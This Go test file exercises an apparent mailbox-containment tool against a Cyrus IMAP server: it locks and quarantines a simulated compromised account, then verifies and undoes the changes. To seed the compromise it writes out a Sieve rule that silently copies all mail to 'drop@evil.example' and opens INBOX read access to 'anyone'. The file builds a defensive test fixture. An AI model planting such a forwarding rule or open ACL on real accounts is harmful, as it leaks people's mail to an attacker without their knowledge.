package imap_test

import (
	"context"
	"errors"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	collector "github.com/mbaudit/mbaudit/collectors/imap"
	"github.com/mbaudit/mbaudit/containment"
	"github.com/mbaudit/mbaudit/containment/imap"
	"github.com/mbaudit/mbaudit/internal/imapwire"
	"github.com/mbaudit/mbaudit/internal/managesieve"
	"github.com/mbaudit/mbaudit/internal/secret"
	"github.com/mbaudit/mbaudit/internal/seedmail"
	"github.com/mbaudit/mbaudit/internal/servertest"
)

// TestCyrusThereAndBack takes back an account of a server that names its folders otherwise and has no doveadm: Sieve script,
// rights and a message, there and back.
func TestCyrusThereAndBack(t *testing.T) {
	t.Parallel()
	server := servertest.Cyrus(t)
	alice := server.Users[0]
	reader, err := collector.New(collector.Config{URL: "imaps://localhost:" + strconv.Itoa(server.IMAPSPort), Sieve: "sieve://localhost:" + strconv.Itoa(server.SievePort),
		RootCAFile: server.CAFile, Password: secret.New(server.Password)})
	if err != nil {
		t.Fatal(err)
	}
	s, err := reader.DialSieve(t.Context(), alice)
	if err != nil {
		t.Fatal(err)
	}
	s.AllowChanges()
	const script = "require [\"copy\"];\r\nredirect :copy \"drop@evil.example\";\r\n"
	if answer, err := s.Store("rules", []byte(script)); err != nil || !answer.OK() {
		t.Fatal(err, answer)
	}
	if answer, err := s.Activate("rules"); err != nil || !answer.OK() {
		t.Fatal(err, answer)
	}
	s.Logout()
	server.Do(t, alice, `SETACL INBOX anyone lrs`, `SETACL INBOX bob lrswi`)
	plain := strings.ReplaceAll(letter, "\xe8", "e") // Cyrus takes no 8-bit headers
	server.Append(t, alice, "INBOX", seedmail.Message{Raw: []byte(plain), InternalDate: time.Now()},
		seedmail.Message{Raw: []byte("Subject: lunch\r\nMessage-ID: <lunch@example.test>\r\n\r\nnoon?\r\n"), InternalDate: time.Now()})

	client := func(writes bool) *imap.Client {
		c, err := imap.New(imap.Config{Account: alice, Writes: writes,
			Dial:      func(ctx context.Context) (*imapwire.Conn, error) { return reader.Dial(ctx, alice) },
			DialSieve: func(ctx context.Context) (*managesieve.Conn, error) { return reader.DialSieve(ctx, alice) }})
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(c.Close)
		return c
	}
	state := func() string {
		conn, err := reader.DialSieve(t.Context(), alice)
		if err != nil {
			t.Fatal(err)
		}
		defer conn.Logout()
		answer, _, err := conn.List()
		if err != nil {
			t.Fatal(err)
		}
		got, err := conn.Get("rules")
		if err != nil || string(got.Body) != script {
			t.Errorf("the script is %q, %v", got.Body, err)
		}
		_, acl, _ := strings.Cut(server.Do(t, alice, "GETACL INBOX"), "* ACL")
		acl, _, _ = strings.Cut(acl, "\r\n")
		entries := strings.Fields(acl)
		slices.Sort(entries)
		return string(answer.Raw) + strings.Join(entries, " ") + strconv.Itoa(strings.Count(server.Do(t, alice, "EXAMINE INBOX", `FETCH 1:* (FLAGS)`), " FETCH ("))
	}
	before := state()
	var p containment.Plan
	for _, o := range []imap.PlanOptions{{Mode: containment.Lock}, {Mode: containment.Quarantine, Quarantine: []string{letterID}}} {
		o.Now = time.Now()
		part, err := client(false).Plan(t.Context(), o)
		if err != nil {
			t.Fatal(err)
		}
		if len(p.Steps) == 0 {
			p = part
			continue
		}
		for _, step := range part.Steps {
			step.N = len(p.Steps) + 1
			p.Steps = append(p.Steps, step)
		}
	}
	want := []string{"sieve.active", "imap.acl", "imap.acl", "imap.folder", "imap.message"}
	if got := kinds(p); !slices.Equal(got, want) {
		t.Fatalf("the plan has %q: %+v", got, p.Warnings)
	}
	if p.Steps[1].Decision != containment.Take || p.Steps[2].Decision != containment.Unknown || p.Steps[3].Target != `"INBOX.mbaudit-quarantine"` {
		t.Errorf("anyone: %s; bob: %s; folder %s", p.Steps[1].Decision, p.Steps[2].Decision, p.Steps[3].Target)
	}
	for i := range p.Steps {
		p.Steps[i].Decision = containment.Take
	}
	file, err := p.Encode()
	if err != nil {
		t.Fatal(err)
	}
	ledger, err := containment.OpenLedger(filepath.Join(t.TempDir(), "ledger"), containment.Hash(file), time.Now)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ledger.Close() })
	runner := &containment.Runner{Actions: client(true).Actions(), Ledger: ledger, Now: time.Now,
		Journal: func(string, map[string]string) (func(string, error) error, error) {
			return func(string, error) error { return nil }, nil
		},
		Preserve: func(context.Context, []containment.Preimage) (string, error) { return "01B", nil }}
	if result, err := runner.Apply(t.Context(), p); err != nil || len(result.Done) != len(p.Steps) {
		t.Fatalf("%+v, %v; %s", result, err, lastWords(ledger))
	}
	for _, c := range runner.Verify(t.Context(), p, nil) {
		if c.Verdict != containment.Stands {
			t.Errorf("%s: %s %s", c.Step.Kind, c.Verdict, c.Err)
		}
	}
	if state() == before {
		t.Error("nothing was changed")
	}
	unmade, err := runner.Undo(t.Context(), p, nil)
	for _, u := range unmade {
		if u.Err != nil && !errors.Is(u.Err, containment.ErrIrreversible) {
			t.Errorf("undoing %s: %v", u.Step.Kind, u.Err)
		}
	}
	if after := state(); err != nil || after != before {
		t.Errorf("undone, it is %s\nand was %s, %v", after, before, err)
	}
}

func lastWords(ledger *containment.Ledger) string {
	var words []string
	for _, line := range ledger.Lines() {
		if line.Text != "" {
			words = append(words, line.Text)
		}
	}
	return strings.Join(words, "; ")
}
